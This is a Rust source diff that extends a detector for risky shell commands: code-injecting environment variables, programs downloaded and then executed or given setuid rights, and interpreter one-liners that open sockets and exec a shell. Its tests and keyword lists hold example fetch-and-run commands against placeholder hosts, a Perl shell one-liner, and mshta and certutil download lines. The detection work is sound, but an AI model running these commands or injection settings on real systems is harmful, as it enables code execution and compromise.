@@ -29,12 +29,12 @@ const CREDENTIALS: [&str; 22] = [
 ];
 
 /// The pipelines of a command line, each with the parts that hand on to each other.
-fn pipelines(text: &str) -> impl Iterator<Item = &str> {
+pub(super) fn pipelines(text: &str) -> impl Iterator<Item = &str> {
     text.split([';', '\n']).flat_map(|part| part.split("&&")).flat_map(|part| part.split("||"))
 }
 
 /// The first word of a part, past words that only start it.
-fn program(part: &str) -> &str {
+pub(super) fn program(part: &str) -> &str {
     let mut words =
         part.split_whitespace().map(|word| word.trim_matches(['(', ')', '{', '}', '[', ']', ',', '"', '\'']));
     let starts = |word: &&str| {
@@ -43,6 +43,9 @@ fn program(part: &str) -> &str {
             "sudo"
                 | "exec"
                 | "nohup"
+                | "setsid"
+                | "command"
+                | "nice"
                 | "time"
                 | "run"
                 | "env"
@@ -226,7 +229,39 @@ pub(super) fn hooks(command: &str) -> bool {
             let asks = ["--require", "--import", "-r", "-M"].iter().any(|option| value.starts_with(option));
             (*name == "PYTHONSTARTUP" || asks) && value.contains(['/', '\\', '.'])
         })
-    })
+    }) || starts_with_more(command)
+}
+
+/// Whether a variable has a shell, a virtual machine or a debugger run something of its own.
+fn starts_with_more(command: &str) -> bool {
+    let value = |name: &'static str| {
+        command.split(name).skip(1).filter_map(|rest| rest.strip_prefix(['=', ' '])).map(|rest| {
+            rest.trim_start_matches(['"', '\'', ' ']).split(['"', '\'', '\n']).next().unwrap_or("").to_owned()
+        })
+    };
+    let odd = |path: &str| {
+        ["/tmp/", "/dev/shm/", "/var/tmp/", "./", "../"].iter().any(|place| path.starts_with(place))
+            || path.contains("/.")
+    };
+    let mut shells = ["BASH_ENV", "R_PROFILE_USER", "R_PROFILE", "GCONV_PATH", "PYTHONPLATLIBDIR"]
+        .into_iter()
+        .flat_map(value);
+    let mut machines = ["JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "JDK_JAVA_OPTIONS"].into_iter().flat_map(value);
+    let agent = |value: &str| {
+        let runs = ["-XX:OnOutOfMemoryError", "-XX:OnError"].iter().any(|option| value.contains(option));
+        let agent = ["-javaagent:", "-agentpath:"].iter().find_map(|option| value.split_once(option));
+        runs || agent.is_some_and(|(_, path)| odd(path))
+    };
+    shells.any(|path| odd(&path))
+        || machines.any(|value| agent(&value))
+        || value("PYTHONBREAKPOINT").any(|name| {
+            ["os.", "subprocess.", "pty.", "builtins.exec", "runpy."]
+                .iter()
+                .any(|start| name.starts_with(start))
+        })
+        || value("LUA_INIT").any(|program| {
+            program.starts_with('@') || program.contains("os.execute") || program.contains("io.popen")
+        })
 }
 
 /// Whether something comes from a place that nobody vouches for.
@@ -244,49 +279,112 @@ pub(super) fn unguarded(part: &str) -> bool {
 
 /// What is wrong with a program that is fetched to a file and then started, or given the rights of root.
 pub(super) fn fetched(command: &str) -> Option<&'static str> {
-    let parts: Vec<&str> = pipelines(command).map(str::trim).collect();
+    fetched_if(command, unguarded, false)
+}
+
+/// The same for what is fetched in a way that `doubted` says; `read` is for programs that an interpreter reads only.
+pub(super) fn fetched_if(command: &str, doubted: fn(&str) -> bool, read: bool) -> Option<&'static str> {
+    let parts: Vec<&str> = pipelines(command).map(str::trim).take(4_000).collect();
     for (index, part) in parts.iter().enumerate() {
         // A recipe of a container fetches with a word of its own.
         let adds = part.starts_with("ADD ") && part.contains("://");
-        if !adds && !matches!(program(part), "curl" | "wget") {
-            continue;
-        }
-        let words: Vec<&str> = part.split_whitespace().collect();
-        let added: Vec<&str> = words.iter().copied().filter(|word| adds && !word.starts_with("--")).collect();
-        let named = words
-            .windows(2)
-            .find(|pair| matches!(pair[0], "-o" | "-O" | "--output" | ">" | "--output-document"));
-        let target = match named {
-            Some(pair) if pair[1] != "-" => pair[1].trim_matches(['"', '\'']),
-            _ => match added[..] {
+        let target = if adds {
+            let words: Vec<&str> = part.split_whitespace().filter(|word| !word.starts_with("--")).collect();
+            match words[..] {
                 [_, _, target] if !target.ends_with('/') => target,
                 _ => continue,
-            },
+            }
+        } else {
+            match saved_to(part) {
+                Some(target) => target,
+                None => continue,
+            }
         };
         if target.is_empty() || target.starts_with('-') {
             continue;
         }
         for after in parts.iter().skip(index + 1) {
-            let first = program(after);
             let mode = after.split_whitespace().nth(1).filter(|_| after.contains("chmod "));
             let mode = mode.filter(|_| after.contains(target));
-            if mode.is_some_and(|mode| mode.contains('s') || mode.len() == 4 && mode.starts_with(['4', '6']))
+            if !read
+                && mode
+                    .is_some_and(|mode| mode.contains('s') || mode.len() == 4 && mode.starts_with(['4', '6']))
             {
                 return Some("gives a program it has fetched the rights of root");
             }
-            let bare = |path: &str| {
-                path.trim_matches(['"', '\'', '[', ']', ',']).trim_start_matches("./").to_owned()
-            };
-            let shell = matches!(first, "sh" | "bash" | "zsh" | "dash" | "python" | "python3" | "perl");
-            let mut words = after.split_whitespace().map(&bare).skip_while(|word| *word != bare(first));
-            let next = words.nth(1);
-            let runs = bare(first) == bare(target) || shell && next.is_some_and(|file| file == bare(target));
-            if runs && unguarded(part) {
+            let runs = if read { reads(after, target) } else { starts(after, target) };
+            if runs && doubted(part) {
                 return Some("fetches a program over a way that anybody can change and runs it");
             }
         }
     }
     None
+}
+
+fn bare(path: &str) -> &str {
+    path.trim_matches(['"', '\'', '[', ']', ',', '&', '(', ')']).trim_start_matches("./")
+}
+
+/// Whether two paths are of one file, as far as is known where they start.
+fn same(one: &str, other: &str) -> bool {
+    let (one, other) = (bare(one), bare(other));
+    let last = |path: &str| path.rsplit('/').next().unwrap_or("").to_owned();
+    !one.is_empty()
+        && (one == other || (!one.contains('/') || !other.contains('/')) && last(one) == last(other))
+}
+
+/// Whether a part of a command line has an interpreter read this file.
+fn reads(part: &str, target: &str) -> bool {
+    const READS: [&str; 14] = [
+        "sh", "bash", "zsh", "dash", "ash", "ksh", "python", "python3", "perl", "ruby", "node", "php",
+        "source", ".",
+    ];
+    let first = program(part);
+    let name = first.rsplit('/').next().unwrap_or(first);
+    let mut words = part.split_whitespace().skip_while(|word| bare(word) != bare(first)).skip(1);
+    READS.contains(&name)
+        && words.find(|word| !bare(word).starts_with('-')).is_some_and(|file| same(file, target))
+}
+
+/// Whether a part of a command line starts this file.
+pub(super) fn starts(part: &str, target: &str) -> bool {
+    same(program(part), target) || reads(part, target)
+}
+
+/// Where a part of a command line saves what it fetches.
+fn saved_to(part: &str) -> Option<&str> {
+    let name = program(part).rsplit('/').next().unwrap_or("");
+    let wget = match name {
+        "wget" => true,
+        "curl" => false,
+        _ => return None,
+    };
+    let words: Vec<&str> = part.split_whitespace().collect();
+    for pair in words.windows(2) {
+        let [option, value] = pair else { continue };
+        let letters = option.strip_prefix('-').filter(|rest| !rest.starts_with('-'));
+        let ends = letters.is_some_and(|rest| rest.ends_with(if wget { 'O' } else { 'o' }));
+        if ends || matches!(*option, "--output" | "--output-document" | ">") {
+            return (*value != "-").then(|| value.trim_matches(['"', '\'']));
+        }
+    }
+    let attached = words.iter().find_map(|word| {
+        let long = word.strip_prefix("--output=").or_else(|| word.strip_prefix("--output-document="));
+        long.or_else(|| word.strip_prefix('>').filter(|rest| rest.len() > 1 && !rest.starts_with('&')))
+    });
+    if attached.is_some() {
+        return attached.map(|path| path.trim_matches(['"', '\'']));
+    }
+    // By its own name: what a shell does with it goes through a pipe otherwise.
+    let own = wget
+        || words.iter().any(|word| {
+            *word == "--remote-name"
+                || word.strip_prefix('-').is_some_and(|rest| !rest.starts_with('-') && rest.contains('O'))
+        });
+    let address = words.iter().find(|word| word.contains("://"))?.trim_matches(['"', '\'', ')']);
+    (own && !part.contains('|'))
+        .then(|| address.rsplit('/').next().unwrap_or(""))
+        .filter(|name| !name.is_empty())
 }
 
 /// What tools of Windows are used for that fetch programs and run them although they are made for something else.
@@ -311,18 +409,13 @@ pub(super) fn windows(text: &str) -> Option<&'static str> {
 
 /// Whether an interpreter is given a program of one line that runs what it fetches.
 pub(super) fn one_liner(text: &str) -> bool {
-    const STARTS: [&str; 9] = [
-        "node -e",
-        "node --eval",
-        "python -c",
-        "python3 -c",
-        "perl -e",
-        "ruby -e",
-        "php -r",
-        "deno eval",
-        "bun -e",
-    ];
-    const FETCHES: [&str; 12] = [
+    const FETCHES: [&str; 18] = [
+        "tcpsocket",
+        "fsockopen",
+        "lwp::",
+        "http::tiny",
+        "net.connect",
+        "curl ",
         "https.get",
         "http.get",
         "fetch(",
@@ -336,7 +429,16 @@ pub(super) fn one_liner(text: &str) -> bool {
         "file_get_contents('http",
         "socket",
     ];
-    const RUNS: [&str; 9] = [
+    const RUNS: [&str; 18] = [
+        "system(",
+        "system \"",
+        "exec \"",
+        "exec'",
+        "popen(",
+        "os.execute",
+        "shell_exec(",
+        "passthru(",
+        "proc_open(",
         "eval(",
         "exec(",
         "execsync(",
@@ -353,7 +455,26 @@ pub(super) fn one_liner(text: &str) -> bool {
     if has(&scripts) && text.contains("child_process") {
         return true;
     }
-    has(&STARTS) && has(&FETCHES) && has(&RUNS)
+    given_program(text) && has(&FETCHES) && has(&RUNS)
+}
+
+/// Whether an interpreter is given a program in its arguments, behind whatever other options.
+fn given_program(text: &str) -> bool {
+    const NAMES: [&str; 11] =
+        ["node", "nodejs", "perl", "ruby", "php", "bun", "lua", "python", "python2", "python3", "osascript"];
+    let mut words = text.split_whitespace().map(|word| word.trim_matches(['"', '\'', '(', ',', '[', ']']));
+    let mut open = false;
+    text.contains("deno eval")
+        || words.any(|word| {
+            let name = word.rsplit('/').next().unwrap_or(word);
+            let gives = open
+                && (word == "--eval"
+                    || word.strip_prefix('-').is_some_and(|letters| {
+                        !letters.starts_with('-') && letters.len() <= 4 && letters.ends_with(['e', 'c', 'r'])
+                    }));
+            open = NAMES.contains(&name) || open && word.starts_with('-');
+            gives
+        })
 }
 
 /// Whether a command is nothing but a shell, as it is started for somebody who types into it.
@@ -414,6 +535,11 @@ mod tests {
             foreign_image("FROM 198.51.100.7:5000/base") && foreign_image("COPY --from=198.51.100.7/x /a /b")
         );
         assert!(!foreign_image("FROM python:3.11") && !foreign_image("COPY --from=0 /a /b"));
+        assert!(hooks("ENV BASH_ENV=/tmp/x") && hooks("PYTHONBREAKPOINT=os.system"));
+        assert!(hooks("JAVA_TOOL_OPTIONS=-javaagent:/tmp/a.jar") && hooks("LUA_INIT=@/x.lua"));
+        assert!(
+            !hooks("BASH_ENV=/usr/local/nvm.sh") && !hooks("JAVA_TOOL_OPTIONS=-Xmx4g PYTHONBREAKPOINT=0")
+        );
         assert!(!hooks("NODE_OPTIONS=--max-old-space-size=4096"));
         assert!(fetched("ADD http://192.0.2.9/a /a\nRUN sh /a").is_some());
         assert!(
@@ -439,6 +565,13 @@ mod tests {
                 .is_none()
         );
         assert!(fetched("curl http://x.example/data.zip -o data.zip && unzip data.zip").is_none());
+        assert!(fetched("cd /tmp && wget -qO a http://x.example/a; sh a").is_some());
+        assert!(fetched("curl -sO http://x.example/i.sh && bash ./i.sh").is_some());
+        assert!(fetched("wget http://x.example/i.sh; chmod +x i.sh; ./i.sh &").is_some());
+        assert!(fetched("wget -q http://x.example/data.tar; tar xf data.tar").is_none());
+        assert!(fetched("curl -s http://x.example/a | tar x; sh a").is_none());
+        assert!(one_liner("perl -mio -e 'use socket; exec(\"/bin/sh\")'"));
+        assert!(!one_liner("perl -pe 's/socket/system/' a"));
         assert!(windows("mshta http://x.example/a.hta").is_some());
         assert!(windows("certutil -urlcache -f http://x.example/a.exe a.exe && a.exe").is_some());
         assert!(windows("certutil -hashfile model.bin sha256 && echo https://x.example").is_none());
